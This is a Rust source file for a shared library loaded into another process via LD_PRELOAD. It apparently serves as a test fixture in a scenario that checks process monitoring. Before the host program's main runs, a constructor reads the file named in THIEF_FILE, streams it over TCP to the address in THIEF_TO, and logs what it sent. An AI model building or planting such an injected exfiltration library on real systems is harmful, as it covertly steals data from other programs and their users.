//! A library that is loaded into somebody else's process (LD_PRELOAD): before the program's `main` it reads `THIEF_FILE` and sends it
//! to `THIEF_TO`, and says the truth as the actors do. Built by the scenario with `rustc --crate-type cdylib`.

use std::io::{self, Read, Write};
use std::time::{SystemTime, UNIX_EPOCH};

#[used]
#[unsafe(link_section = ".init_array")]
static START: extern "C" fn() = start;

extern "C" fn start() {
    if let Err(error) = steal() {
        eprintln!("the library: {error}");
    }
}

fn steal() -> io::Result<()> {
    let (Ok(file), Ok(to)) = (std::env::var("THIEF_FILE"), std::env::var("THIEF_TO")) else { return Ok(()) };
    let whole = std::fs::read(file)?;
    let mut stream = std::net::TcpStream::connect(&to)?;
    let began = SystemTime::now().duration_since(UNIX_EPOCH).map_err(io::Error::other)?.as_nanos();
    stream.write_all(&whole)?;
    stream.shutdown(std::net::Shutdown::Write)?;
    stream.read_to_end(&mut Vec::new())?;
    let pid = std::fs::read_link("/opt/weir/host-proc/self")?;
    let line = format!(
        "{{\"role\":\"sender\",\"process.pid\":{},\"bytes_sent\":{},\"began\":{began},\"destinations\":[\"{to}\"]}}\n",
        pid.display(),
        whole.len(),
    );
    io::stdout().write_all(line.as_bytes())
}
